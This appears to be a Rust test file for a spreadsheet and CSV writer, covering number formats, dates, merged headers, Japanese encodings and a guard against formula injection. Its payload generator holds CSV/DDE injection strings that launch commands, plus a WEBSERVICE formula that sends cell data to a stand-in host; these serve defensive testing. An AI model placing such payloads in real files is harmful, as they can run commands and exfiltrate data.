//! What is written can be read again as it was meant: zeros, days, merged headers, encodings, and the same bytes each time.

use std::io::{self, Cursor, Read as _, Write};
use std::path::Path;

use calamine::{Data, DataType as _, Reader as _, Xlsx};
use intake::write::{Cell, Csv, Encoding, LineEnd, Merge, Sheet, Texts, Unmappable, Unwritten, csv, half_width, xlsx};
use rules::calendar::day;
use rules::words::Weight;

fn sheet<'a>() -> Sheet<'a> {
    let rows = vec![
        vec![
            "0012".into(),
            "=1+1".into(),
            Cell::Number(7.0, "0000000"),
            Cell::Date(day(1980, 1, 2), "[$-411]ge.m.d;@"),
        ],
        vec!["+81".into(), "髙𡈽辻\u{E0100}".into(), Cell::Blank, Cell::Date(day(2026, 4, 15), "yyyy/m/d")],
        vec!["１\u{1}".into(), " 前後 ".into(), Cell::Number(123_456_789_018.0, "000000000000"), Cell::Blank],
    ];
    Sheet::new("名簿", ["番号", "氏名", "証番号", "日"], rows).widths([8.0, 20.0])
}

fn written(sheets: Vec<Sheet<'_>>, texts: Texts<'_>) -> Vec<u8> {
    let mut bytes = Vec::new();
    xlsx(sheets, texts, &mut bytes).expect("the workbook is written");
    bytes
}

fn part(bytes: &[u8], name: &str) -> String {
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).expect("a workbook is a zip");
    let mut text = String::new();
    archive.by_name(name).expect("the part is there").read_to_string(&mut text).expect("the part is text");
    text
}

fn both_ways(check: impl Fn(&dyn Fn(Vec<Sheet<'_>>) -> Vec<u8>)) {
    let folder = tempfile::tempdir().expect("a temporary folder");
    check(&|sheets| written(sheets, Texts::InRows(folder.path())));
    assert_eq!(std::fs::read_dir(folder.path()).expect("the folder").count(), 0, "nothing is left beside the workbook");
    check(&|sheets| written(sheets, Texts::Shared));
}

#[test]
fn zeros_signs_and_long_numbers_survive_as_texts_and_nothing_becomes_a_formula() {
    both_ways(|write| {
        let mut book = Xlsx::new(Cursor::new(write(vec![sheet()]))).expect("a workbook");
        let cells = book.worksheet_range("名簿").expect("the sheet");
        let text = |row, column| cells.get_value((row, column)).and_then(Data::get_string).map(str::to_owned);
        assert_eq!(text(0, 1).as_deref(), Some("氏名"));
        assert_eq!(text(1, 0).as_deref(), Some("0012"));
        assert_eq!(text(1, 1).as_deref(), Some("=1+1"));
        assert_eq!(text(2, 0).as_deref(), Some("+81"));
        assert_eq!(text(2, 1).as_deref(), Some("髙𡈽辻\u{E0100}"));
        assert_eq!(text(3, 0).as_deref(), Some("１\u{1}"), "a control character is kept, not written raw");
        assert_eq!(text(3, 1).as_deref(), Some(" 前後 "));
        let formulas = book.worksheet_formula("名簿").expect("the sheet");
        assert!(formulas.used_cells().all(|(_, _, formula)| formula.is_empty()));
    });
}

#[test]
fn numbers_and_days_are_numbers_and_days_with_their_formats() {
    both_ways(|write| {
        let bytes = write(vec![sheet()]);
        let mut book = Xlsx::new(Cursor::new(bytes.clone())).expect("a workbook");
        let cells = book.worksheet_range("名簿").expect("the sheet");
        assert_eq!(cells.get_value((1, 2)), Some(&Data::Float(7.0)));
        assert_eq!(cells.get_value((3, 2)), Some(&Data::Float(123_456_789_018.0)));
        let serial = |row| match cells.get_value((row, 3)) {
            Some(Data::DateTime(day)) => Some(day.as_f64()),
            _ => None,
        };
        assert!(
            matches!(cells.get_value((1, 3)), Some(Data::DateTime(_))),
            "a day is a day: {:?}",
            cells.get_value((1, 3))
        );
        assert_eq!(serial(1), Some(29_222.0), "1980-01-02");
        assert_eq!(serial(2), Some(46_127.0), "2026-04-15");
        let styles = part(&bytes, "xl/styles.xml");
        for format in ["formatCode=\"0000000\"", "formatCode=\"[$-411]ge.m.d;@\"", "formatCode=\"yyyy/m/d\""] {
            assert!(styles.contains(format), "{format} is missing in {styles}");
        }
    });
}

#[test]
fn the_same_rows_give_the_same_bytes() {
    both_ways(|write| assert_eq!(write(vec![sheet()]), write(vec![sheet()])));
    let core = part(&written(vec![sheet()], Texts::Shared), "docProps/core.xml");
    assert!(core.contains("2000-01-01T00:00:00Z"), "the day of making is fixed: {core}");
}

#[test]
fn headers_are_frozen_and_merged_cells_show_their_first_text() {
    both_ways(|write| {
        let merged = sheet()
            .above(vec![vec!["資格取得届".into()], vec!["事業所名".into(), "見本".into()]])
            .header_rows(vec![
                vec!["記号番号".into(), "dropped".into(), "証".into(), "日".into()],
                vec!["記号".into(), "番号".into(), Cell::Blank, Cell::Blank],
            ])
            .merged(vec![
                Merge { from: (0, 0), to: (0, 3) },
                Merge { from: (2, 0), to: (2, 1) },
                Merge { from: (2, 2), to: (3, 2) },
                Merge { from: (2, 3), to: (3, 3) },
            ]);
        let bytes = write(vec![merged, Sheet::new("リスト", Vec::<String>::new(), Vec::new()).hidden()]);
        let mut book = Xlsx::new(Cursor::new(bytes.clone())).expect("a workbook");
        let cells = book.worksheet_range("名簿").expect("the sheet");
        let text = |row, column| cells.get_value((row, column)).and_then(Data::get_string).map(str::to_owned);
        assert_eq!(text(2, 0).as_deref(), Some("記号番号"));
        assert_eq!(text(2, 1), None, "what a merged cell hides is not there");
        assert_eq!((text(3, 0).as_deref(), text(3, 1).as_deref(), text(3, 2)), (Some("記号"), Some("番号"), None));
        assert_eq!(text(4, 0).as_deref(), Some("0012"));
        let xml = part(&bytes, "xl/worksheets/sheet1.xml");
        for place in ["A1:D1", "A3:B3", "C3:C4", "D3:D4"] {
            assert!(xml.contains(&format!("<mergeCell ref=\"{place}\"/>")), "{place} is not merged");
        }
        assert!(xml.contains("ySplit=\"4\"") && xml.contains("state=\"frozen\""));
        assert!(part(&bytes, "xl/workbook.xml").contains("state=\"hidden\""));
    });
}

/// A disk that is full after so many bytes.
struct Full(usize);

impl Write for Full {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        if bytes.len() > self.0 {
            return Err(io::ErrorKind::StorageFull.into());
        }
        self.0 -= bytes.len();
        Ok(bytes.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

#[test]
fn a_full_disk_is_told_as_a_full_disk() {
    let rows = (0..2_000).map(|n| vec![Cell::text(format!("{n}番の方"))]);
    let error =
        xlsx(vec![Sheet::new("名簿", ["氏名"], rows)], Texts::Shared, Full(4_000)).expect_err("there is no room");
    assert!(matches!(&error, Unwritten::Io(why) if why.kind() == io::ErrorKind::StorageFull), "{error}");
    let error = csv((0..9_999).map(|n| [n.to_string()]), Csv::default(), Full(4_000)).expect_err("there is no room");
    assert!(matches!(&error, Unwritten::Io(why) if why.kind() == io::ErrorKind::StorageFull), "{error}");
    let said = error.complaints();
    assert_eq!((said[0].code, said[0].weight), ("not_writable", Weight::Refusal));
}

#[test]
fn what_no_sheet_can_hold_is_refused_and_nothing_is_written() {
    let long = "あ".repeat(32_768);
    let mut bytes = Vec::new();
    let error = xlsx(vec![Sheet::new("名簿", ["氏名"], [vec![Cell::Text(long)]])], Texts::Shared, &mut bytes);
    assert!(matches!(error, Err(Unwritten::Sheet(_))), "{error:?}");
    let error = xlsx(vec![Sheet::new("a/b", ["氏名"], [])], Texts::Shared, &mut bytes);
    assert!(matches!(error, Err(Unwritten::Sheet(_))), "{error:?}");
    assert!(bytes.is_empty());
    let missing = Path::new("no-such-folder-anywhere");
    let error = xlsx(vec![sheet()], Texts::InRows(missing), &mut bytes);
    assert!(matches!(error, Err(Unwritten::Io(_))), "{error:?}");
}

fn lines(rows: &[&[&str]], how: Csv) -> Vec<u8> {
    let mut bytes = Vec::new();
    csv(rows.iter().map(|row| row.iter().copied()), how, &mut bytes).expect("the rows are written");
    bytes
}

#[test]
fn fields_are_quoted_only_when_they_must_be() {
    let how = Csv { encoding: Encoding::Utf8, ..Csv::default() };
    assert_eq!(
        lines(&[&["0012", "a b", "a,b", "a\"b", "a\nb", ""]], how),
        "0012,a b,\"a,b\",\"a\"\"b\",\"a\nb\",\r\n".as_bytes()
    );
    assert_eq!(lines(&[&["a", "b"], &["c"]], Csv { line_end: LineEnd::Lf, ..how }), b"a,b\nc\n");
    assert_eq!(lines(&[&[""]], how), b"\"\"\r\n", "a row of one empty field is still a row");
    assert_eq!(lines(&[&["a,b", "c\td"]], Csv { delimiter: b'\t', ..how }), b"a,b\t\"c\td\"\r\n");
}

#[test]
fn every_encoding_is_what_it_says() {
    let row: &[&[&str]] = &[&["髙", "①"]];
    let with = |encoding| lines(row, Csv { encoding, ..Csv::default() });
    assert_eq!(with(Encoding::Utf8), "髙,①\r\n".as_bytes());
    assert_eq!(with(Encoding::Utf8Bom), [&b"\xEF\xBB\xBF"[..], "髙,①\r\n".as_bytes()].concat());
    assert_eq!(with(Encoding::Cp932), b"\xFB\xFC,\x87\x40\r\n");
    assert_eq!(with(Encoding::Utf16), b"\xFF\xFE\xD9\x9A,\0\x60\x24\r\0\n\0");
}

#[test]
fn cp932_takes_the_characters_that_windows_knows() {
    let how = Csv { encoding: Encoding::Cp932, ..Csv::default() };
    assert_eq!(lines(&[&["〜—‖\u{2212}\u{A0}"]], how), b"\x81\x60\x81\x5C\x81\x61\x81\x7C \r\n");
    assert_eq!(lines(&[&["か\u{3099}", "辻\u{E0100}"]], how), b"\x82\xAA,\x92\xD2\r\n");
}

#[test]
fn characters_that_cp932_lacks_are_named_with_their_place_and_nothing_is_put_in_their_stead() {
    let rows = [vec!["氏名", "住所"], vec!["𠮷田", "東京"], vec!["\u{E000}", "土𡈽é"]];
    let mut bytes = Vec::new();
    let error =
        csv(rows, Csv { encoding: Encoding::Cp932, ..Csv::default() }, &mut bytes).expect_err("characters are missing");
    let Unwritten::Characters(found) = &error else { panic!("{error}") };
    let at = |row, column, character| Unmappable { row, column, character };
    assert_eq!(found, &[at(2, 1, '𠮷'), at(3, 1, '\u{E000}'), at(3, 2, '𡈽'), at(3, 2, 'é')]);
    assert!(!bytes.windows(2).any(|two| two == b"&#"), "no replacement was written");
    let said = error.complaints();
    assert_eq!((said[0].place.as_str(), said[3].place.as_str()), ("A2", "B3"));
    assert!(said[0].sentence.ja.contains("𠮷") && said[0].sentence.en.contains("U+20BB7"));
}

#[test]
fn so_many_missing_characters_are_told_and_no_more() {
    let rows = (0..1_000).map(|_| ["𠮷"]);
    let error =
        csv(rows, Csv { encoding: Encoding::Cp932, ..Csv::default() }, io::sink()).expect_err("characters are missing");
    assert!(matches!(error, Unwritten::Characters(found) if found.len() == Unwritten::MOST));
}

#[test]
fn a_guarded_file_runs_nothing_and_an_unguarded_one_stays_as_it_is() {
    let row: &[&[&str]] = &[&["=1+1", "+1", "-1", "@SUM", "1-1", "\tx"]];
    let how = Csv { encoding: Encoding::Utf8, ..Csv::default() };
    assert_eq!(lines(row, how), b"'=1+1,'+1,'-1,'@SUM,1-1,'\tx\r\n");
    assert_eq!(lines(row, Csv { guard: false, ..how }), b"=1+1,+1,-1,@SUM,1-1,\tx\r\n");
}

/// Whatever a spreadsheet program may take for a formula, behind what it may skip.
const RUNS: [char; 12] = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠'];

pub fn payloads() -> Vec<String> {
    let before = ["", " ", "　", "'", "''", " ' ", "\u{A0}", "' '", "　　", "'　'"];
    let mut bodies: Vec<String> = [
        "1+1",
        "cmd|'/C calc'!A0",
        "SUM(A1:A9)",
        "HYPERLINK(\"http://x.example\",\"見る\")",
        "DDE(\"cmd\";\"/C calc\";\"\")",
        "WEBSERVICE(\"http://x.example/\"&A1)",
        "IMPORTXML(\"x\",\"y\")",
        "'Sheet'!A1",
        "\"a\",b",
        "a\r\nb",
        "",
        "山田　太郎",
    ]
    .map(str::to_owned)
    .to_vec();
    bodies.extend((0..32).map(|n| format!("{n},\"{}\"\n{}", "=".repeat(n), n * 7)));
    let mut all = Vec::new();
    for body in &bodies {
        for start in before {
            all.extend(RUNS.iter().map(|run| format!("{start}{run}{body}")));
            all.push(format!("{start}{body}"));
        }
    }
    all
}

#[test]
fn thousands_of_formulas_are_written_none_is_one_and_each_is_read_as_it_was() {
    let payloads = payloads();
    assert!(payloads.len() > 5_000, "{} payloads", payloads.len());
    let rows = || payloads.iter().enumerate().map(|(number, text)| [format!("n{number}"), text.clone()]);
    let mut bytes = Vec::new();
    csv(rows(), Csv { encoding: Encoding::Utf8, ..Csv::default() }, &mut bytes).expect("the rows are written");
    // As any other program reads it: no field begins a formula, whatever is skipped before it.
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(&bytes[..]);
    let mut guarded = 0;
    for (record, text) in reader.records().zip(&payloads) {
        let record = record.expect("a record");
        let field = record.get(1).expect("two fields");
        assert!(!field.trim_start().starts_with(RUNS), "{field:?} would run");
        assert!(field == text || field.strip_prefix('\'') == Some(text), "{field:?} was {text:?}");
        guarded += usize::from(field != text);
    }
    assert!(guarded > payloads.len() / 2, "{guarded} of {} are guarded", payloads.len());
    // As this program reads it.
    let read: Vec<String> =
        intake::table::records(&bytes).expect("a table").into_iter().map(|(_, cells)| cells[1].clone()).collect();
    assert!(read == payloads, "{:?}", read.iter().zip(&payloads).find(|(one, other)| one != other));

    both_ways(|write| {
        let cells = payloads.iter().map(|text| vec![Cell::text(text.clone())]);
        let bytes = write(vec![Sheet::new("名簿", ["氏名"], cells)]);
        let mut book = Xlsx::new(Cursor::new(bytes)).expect("a workbook");
        let formulas = book.worksheet_formula("名簿").expect("the sheet");
        assert!(formulas.used_cells().all(|(_, _, formula)| formula.is_empty()));
        let range = book.worksheet_range("名簿").expect("the sheet");
        // XML knows no bare CR: a reader may take it for the end of a line.
        let plain = |text: &str| text.replace("\r\n", "\n").replace('\r', "\n");
        for (row, text) in (1..).zip(&payloads) {
            let cell = range.get_value((row, 0)).cloned().unwrap_or_default();
            assert!(!cell.is_float() && !cell.is_error(), "{text:?} became {cell:?}");
            assert_eq!(plain(cell.get_string().unwrap_or_default()), plain(text), "row {row}");
        }
    });
}

#[test]
fn kana_become_half_width_with_their_marks_apart() {
    assert_eq!(half_width("ガギグ　パピプ　ヴァッー・ヲン"), "ｶﾞｷﾞｸﾞ ﾊﾟﾋﾟﾌﾟ ｳﾞｧｯｰ･ｦﾝ");
    assert_eq!(half_width("ＡＢＣ１２３－（株）漢字かな"), "ABC123-(株)漢字かな");
    for kana in 'ァ'..='ン' {
        let folded = half_width(&kana.to_string());
        let rare = "ヮヰヱ".contains(kana);
        assert_eq!(folded == kana.to_string(), rare, "{kana} became {folded}");
    }
}
